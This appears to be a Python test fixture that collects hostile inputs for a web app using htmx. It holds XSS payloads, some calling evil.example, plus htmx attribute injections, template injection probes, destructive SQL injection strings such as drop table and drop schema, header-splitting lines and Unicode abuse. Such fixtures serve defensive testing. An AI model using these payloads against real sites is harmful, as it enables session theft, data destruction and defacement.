"""What somebody types who wants more than to be read."""

from __future__ import annotations

MARKER = "zq"  # in every script below; nothing of ours has it

SCRIPTS = [
    *("<script>zq()</script>", "<ScRiPt src=//evil.example/zq.js></ScRiPt>", "<scr<script>ipt>zq()</script>"),
    *("<img src=x onerror=zq()>", "<img/src/onerror=zq()>", "<img src='x'onerror='zq()'", "<IMG SRC=javascript:zq()>"),
    *("<svg onload=zq()>", "<svg/onload=zq()//", "<svg><script>zq()</script>", "<svg><a xlink:href=javascript:zq()>zq"),
    *("<math><mi xlink:href='javascript:zq()'>", "<math><mtext><table><mglyph><style><img src onerror=zq()>"),
    *("<iframe srcdoc='<script>zq()</script>'>", "<iframe src=javascript:zq()>", "<object data=javascript:zq()>"),
    *("<embed src=javascript:zq()>", "<base href=//evil.example/zq>", "<link rel=stylesheet href=//evil.example/zq>"),
    *("<meta http-equiv=refresh content='0;url=//evil.example/zq'>", "<form action=//evil.example/zq><input name=a>"),
    *("<body onload=zq()>", "<details open ontoggle=zq()>", "<video><source onerror=zq()>", "<audio src onerror=zq()>"),
    *(
        "<marquee onstart=zq()>",
        "<input autofocus onfocus=zq()>",
        "<select autofocus onfocus=zq()>",
        "<style>@import'zq'",
    ),
    *("<a href=javascript:zq()>zq</a>", "<a href='java\tscript:zq()'>zq", "<a href=data:text/html,zq>zq</a>"),
    *("<template><script>zq()</script></template>", "<noscript><p title='</noscript><img src onerror=zq()>'>"),
    *("</title><script>zq()</script>", "</textarea><script>zq()</script>", "</style><script>zq()</script>"),
    *("--><script>zq()</script>", "]]><script>zq()</script>", "<!--><img src onerror=zq()>-->", "<?xml zq?>"),
    *('" onmouseover="zq()', "' onmouseover='zq()", "` onmouseover=`zq()", '"><script>zq()</script>', "'><img src=zq>"),
    *(
        '" autofocus onfocus=zq() x="',
        '" style="background:url(//evil.example/zq)',
        "&lt;script&gt;zq()&lt;/script&gt;",
    ),
    *("&#60;script&#62;zq()&#60;/script&#62;", "%3Cscript%3Ezq()%3C/script%3E", "\\u003cscript\\u003ezq()"),
    *("＜script＞zq()＜/script＞", "<\u200bscript>zq()</script>", "<a\u00a0href=javascript:zq()>", "ʺ><img src=zq>"),
    *("jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=zq() )//", "javascript://%0aalert(zq)", "vbscript:zq()"),
]
# Attributes and elements that htmx acts on.
HTMX = [
    *('<p hx-get="/zq" hx-trigger="load">', '<p data-hx-get="/zq" data-hx-trigger="load">', '<p hx-on:load="zq()">'),
    *(
        '"><p hx-swap-oob="true" id="messages">zq',
        '<hx-partial hx-target="body">zq</hx-partial>',
        '<p hx-ws:connect="//zq">',
    ),
    *('" hx-post="/agent/logout" hx-trigger="load" x="', '<template hx type="partial">zq', '<p hx-vals="js:{a:zq()}">'),
]
TEMPLATES = [
    *("{{7*7}}zq", "{{ config }}zq", "{% if 1 %}zq{% endif %}", "{#zq#}", "${7*7}zq", "#{7*7}zq", "<%= 7*7 %>zq"),
    *(
        "{{''.__class__.__mro__}}zq",
        "{{constructor.constructor('zq()')()}}",
        "%(zq)s",
        "{zq}",
        "{0.__class__}zq",
        "%n%szq",
    ),
]
FRAMES = [
    *(
        '{"content":"<b>zq</b>","target":"body"}',
        '{"event":"reset","zq":1}',
        "zq null",
        '{"__proto__":{"zq":1}}',
        '["zq"]',
    ),
    *('{"hello":true,"ticket":1,"zq":1}', '{"channel":"zq","html":"<b>"}', "zq\n\ndata: x", "\x1ezq"),
]
SQL = [
    *("' or '1'='1' --zq", "'; drop table tickets; --zq", "zq\\'; select pg_sleep(9); --", "1) union select null,zq--"),
    *('zq"; delete from agents; --', "zq$$; drop schema public cascade; $$", "%zq%_%", "zq,id.gte.0", "zq)a(*"),
]
LINES = [
    *(
        "zq\r\nSet-Cookie: a=zq",
        "zq\nLocation: //evil.example",
        "zq%0d%0aX-Zq: 1",
        "zq\x1b[2J\x1b]0;zq\x07",
        "zq\u2028\u2029zq",
    ),
    *("zq\x85zq", "zq\x0b\x0czq", '"zq", "level": "error', "zq\u560d\u560aX-Zq: 1"),
]
UNICODE = [
    *("zq\u202egnp.exe", "zq" + "\u0301" * 5000, "zq\u0600\u0605" * 500, "zq\ufdfa" * 1000, "zq\U0001f469\u200d" * 300),
    *("\u2066zq\u2067zq\u2068", "zq\u00ad\ufeff\u200bzq", "zq" + "\u0e47" * 500, "ǅzqıſK", "zq\U000e0001\U000e0041"),
]
EVERYTHING = [*SCRIPTS, *HTMX, *TEMPLATES, *FRAMES, *SQL, *LINES, *UNICODE]
